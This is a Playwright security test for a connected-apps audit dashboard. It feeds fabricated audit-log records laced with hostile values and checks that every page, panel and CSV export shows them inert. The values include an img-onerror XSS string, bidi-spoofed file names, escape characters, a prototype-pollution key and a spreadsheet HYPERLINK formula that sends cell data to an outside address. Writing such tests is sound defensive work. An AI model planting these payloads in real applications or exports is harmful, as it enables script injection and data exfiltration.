/** What attackers write into audit logs is shown and never obeyed: in every page of connected apps, every tab of every panel, every export. */
import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { expect, test } from '../pages/fixtures.ts';
import { ImportPage } from '../pages/import-page.ts';

/** Markup, a bell, an escape sequence, and text that turns its surroundings. */
const EVIL = 'a\u202egpj.exe\u0007\u001b[31m<img src=x onerror="window.__obeyed=1">\u200f\u2066x\u2069';
const FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")';

const record = (at: number, Operation: string, over: object = {}): object => ({
  CreationTime: `2026-03-04T09:${String(at).padStart(2, '0')}:00`,
  Id: `60000000-0000-4000-8000-${String(at).padStart(12, '0')}`,
  OrganizationId: `t${EVIL}`,
  Operation,
  Workload: 'AzureActiveDirectory',
  UserId: `u${EVIL}@corp.example`,
  UserType: 0,
  ClientIP: '192.0.2.7',
  UserAgent: `agent ${EVIL}`,
  ...over,
});
const file = (name: string): object => ({
  Workload: 'OneDrive',
  ItemType: 'File',
  ObjectId: `https://corp.example/${name}`,
  SourceFileName: name,
});
const LOG = [
  record(1, 'UserLoggedIn'),
  record(2, 'UserLoginFailed', { LogonError: EVIL }),
  record(3, 'FileDownloaded', file(EVIL)),
  record(4, 'AnonymousLinkCreated', file(EVIL)),
  record(5, 'SharingSet', {
    ...file(FORMULA),
    TargetUserOrGroupName: `g${EVIL}@outside.example`,
    TargetUserOrGroupType: 'Guest',
  }),
  record(6, 'Consent to application.', {
    Target: [{ ID: `Helper ${EVIL}`, Type: 1 }],
    ModifiedProperties: [
      { Name: 'ConsentAction.Permissions', NewValue: `[] => [[Scope: Mail.ReadWrite ${EVIL}, CreatedDateTime ]]` },
    ],
  }),
  record(7, 'Add member to role.', { Target: [{ ID: `r${EVIL}@corp.example`, Type: 5 }] }),
  record(8, 'New-InboxRule', {
    Workload: 'Exchange',
    ObjectId: EVIL,
    Parameters: [{ Name: 'ForwardTo', Value: EVIL }],
  }),
  record(9, EVIL, { Workload: EVIL }),
  record(10, 'UserLoggedIn', { UserId: FORMULA, UserAgent: FORMULA }),
  record(11, 'Consent to application.', { UserId: '+1+1', Target: [{ ID: FORMULA, Type: 1 }] }),
  record(12, 'UserLoggedIn', { UserId: '__proto__' }),
  record(13, 'UserLoggedIn', { UserId: `${'W'.repeat(300_000)}@corp.example`, UserAgent: 'z'.repeat(300_000) }),
  record(14, 'FileDownloaded', file('n'.repeat(300_000))),
]
  .map((one) => JSON.stringify(one))
  .join('\n');
/** Characters that no screen and no table may hold: they are shown as their code. */
const INVISIBLE =
  '[\\u0000-\\u0008\\u000b\\u000c\\u000e-\\u001f\\u007f-\\u009f\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069]';
const PAGES = [
  ['Connectors', 'Connected apps'],
  ['Activity log', 'Activity log'],
  ['Accounts', 'Accounts'],
  ['Files', 'Files'],
  ['OAuth apps', 'OAuth apps'],
  ['Posture', 'Posture'],
] as const;

/** Faults of what is on the screen now: something obeyed, something invisible, something that breaks the page. */
function faultsOf(page: Page): Promise<readonly string[]> {
  return page.evaluate((pattern) => {
    const invisible = new RegExp(pattern);
    const faults: string[] = [];
    if ('__obeyed' in window) faults.push('a script of the log ran');
    if (document.querySelector('img[src="x"]') !== null) faults.push('markup of the log became an element');
    if (document.documentElement.scrollWidth > innerWidth) faults.push('the page is wider than its window');
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
      if (invisible.test(node.textContent ?? '')) faults.push(`text of ${node.parentElement?.outerHTML.slice(0, 120)}`);
    }
    for (const element of document.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (invisible.test(value)) faults.push(`${name} of ${element.outerHTML.slice(0, 120)}`);
        if (value.length > 20_000) faults.push(`${name} of ${element.tagName} has ${value.length} characters`);
      }
    }
    for (const panel of document.querySelectorAll('.uc-panel')) {
      if (panel.scrollWidth > panel.clientWidth + 1) faults.push('the panel is wider than itself');
    }
    return [...new Set(faults)];
  }, INVISIBLE);
}

test('hostile values are inert in every page, panel and export of connected apps', async ({ fresh }) => {
  const { page } = fresh;
  test.setTimeout(420_000);
  await fresh.drop([{ name: 'audit.json', text: LOG }]);
  const imports = new ImportPage(page);
  await imports.start();
  await expect(imports.card('audit.json').getByText('Done')).toBeVisible();
  expect(await faultsOf(page), 'Imports').toEqual([]);
  const panel = page.locator('.uc-panel');
  for (const [title, label] of PAGES) {
    await fresh.goTo(title);
    const rows = page.getByRole('grid', { name: label }).getByRole('row');
    await expect(rows.nth(1)).toBeVisible();
    await fresh.expectFilled(title);
    expect(await faultsOf(page), title).toEqual([]);
    const shown = Math.min(await rows.count(), 12);
    for (let at = 1; at < shown; at += 1) {
      await rows.nth(at).click();
      await expect(panel).toBeVisible();
      for (const tab of await panel.getByRole('tab').all()) {
        await tab.click();
        await expect(panel.locator('.uc-bones, [aria-busy=true]')).toHaveCount(0);
        expect(await faultsOf(page), `${title}, row ${at}, ${await tab.innerText()}`).toEqual([]);
      }
    }
    if (title === 'Connectors') continue;
    await page.getByRole('button', { name: 'Export', exact: true }).click();
    const saving = page.waitForEvent('download');
    await page.getByRole('menuitem', { name: 'CSV' }).click();
    const text = await readFile(await (await saving).path(), 'utf8');
    expect(text.split('\n').length, title).toBeGreaterThan(1);
    // No cell of it begins as a formula does, quoted or not.
    expect(text, title).not.toMatch(/(?:^|[,\n])"?[=+@\t\r-](?!\d*[,\n])/);
    expect(text, title).not.toMatch(new RegExp(INVISIBLE));
  }
});
